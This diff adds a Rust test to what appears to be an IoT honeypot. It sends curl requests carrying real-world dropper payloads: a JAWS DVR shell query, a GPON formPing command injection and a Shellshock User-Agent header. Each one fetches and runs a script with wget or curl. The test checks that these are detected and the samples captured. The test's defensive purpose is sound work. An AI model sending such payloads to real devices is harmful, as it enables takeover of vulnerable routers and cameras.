@@ -375,3 +375,115 @@ fn cameras_stream_video_behind_their_logins() {
     let unauthorized = column(&db, "SELECT count(*) FROM events WHERE eventid = 'iotpot.http.request' AND json_extract(data, '$.status') = 401 AND json_extract(data, '$.password') = 'wrong'");
     assert_eq!(unauthorized, ["1"]);
 }
+
+/// The droppers exploits carry, sent with curl as published exploits
+/// send them (the command in a bare query, in a percent-encoded form field,
+/// in a header with `${IFS}` for spaces): each is an `http.suspicious`
+/// event, its URL is fetched from a loopback server and the file lands in
+/// `samples/`. An ordinary request is not suspicious.
+#[test]
+fn droppers_in_web_requests_are_fetched() {
+    let files = TempDir::new("http-droppers");
+    let bodies: [(&str, &[u8]); 3] = [
+        ("jaws.sh", b"#!/bin/sh\necho jaws\n"),
+        ("gpon.sh", b"#!/bin/sh\necho gpon\n"),
+        ("ua.sh", b"#!/bin/sh\necho ua\n"),
+    ];
+    for (name, body) in bodies {
+        std::fs::write(files.0.join(name), body).unwrap();
+    }
+    let web = free_port();
+    let _server = http_server(&files.0, web);
+    let dvr = free_port();
+    let hp = Honeypot::start(
+        "http-droppers",
+        "dvr-xiongmai",
+        &format!(
+            "{}[downloader]\nallow = [\"127.0.0.1/32\"]\n",
+            listen("http", dvr, "dvr")
+        ),
+    );
+    let base = format!("http://127.0.0.1:{dvr}");
+    let (_, code) = curl(&[&format!(
+        "{base}/shell?cd+/tmp;wget+http://127.0.0.1:{web}/jaws.sh;sh+/tmp/jaws.sh"
+    )]);
+    assert_eq!(code, "404", "the dvr profile has no such page");
+    curl(&[
+        "-d",
+        &format!("target_addr=%3Bwget%20http%3A%2F%2F127.0.0.1%3A{web}%2Fgpon.sh%20-O%20-%3E%20%2Ftmp%2Fg%3Bsh%20%2Ftmp%2Fg&waninf=1_INTERNET_R_VID_"),
+        &format!("{base}/boaform/admin/formPing"),
+    ]);
+    curl(&[
+        "-H",
+        &format!("User-Agent: () {{ :; }}; cd${{IFS}}/tmp;curl${{IFS}}-O${{IFS}}http://127.0.0.1:{web}/ua.sh"),
+        &format!("{base}/"),
+    ]);
+    curl(&[&format!("{base}/index.html?page=wgetting-started&q=curl")]);
+    // Each file, fetched beside the answers.
+    let samples = hp.data().join("samples");
+    for (name, body) in bodies {
+        let path = samples.join(hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body)));
+        let deadline = Instant::now() + Duration::from_secs(15);
+        while !path.exists() {
+            assert!(
+                Instant::now() < deadline,
+                "{name} never reached samples/: {}",
+                hp.stderr.lock().unwrap()
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+    // Their events (the store writes in batches).
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let events = loop {
+        let events = hp.jsonl();
+        let done = events
+            .iter()
+            .filter(|e| e["eventid"] == "iotpot.download.success")
+            .count();
+        if done >= 3 || Instant::now() > deadline {
+            break events;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let suspicious: Vec<_> = events
+        .iter()
+        .filter(|e| e["eventid"] == "iotpot.http.suspicious")
+        .collect();
+    let by_place: Vec<(String, String)> = suspicious
+        .iter()
+        .map(|e| {
+            (
+                e["location"].as_str().unwrap().to_string(),
+                e["urls"][0].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        by_place,
+        [
+            (
+                "query".to_string(),
+                format!("http://127.0.0.1:{web}/jaws.sh")
+            ),
+            (
+                "form:target_addr".into(),
+                format!("http://127.0.0.1:{web}/gpon.sh")
+            ),
+            (
+                "header:User-Agent".into(),
+                format!("http://127.0.0.1:{web}/ua.sh")
+            ),
+        ],
+        "{suspicious:#?}"
+    );
+    assert_eq!(
+        suspicious[2]["command"],
+        format!("cd /tmp\ncurl -O http://127.0.0.1:{web}/ua.sh")
+    );
+    let fetched = events
+        .iter()
+        .filter(|e| e["eventid"] == "iotpot.download.success")
+        .count();
+    assert_eq!(fetched, 3);
+}
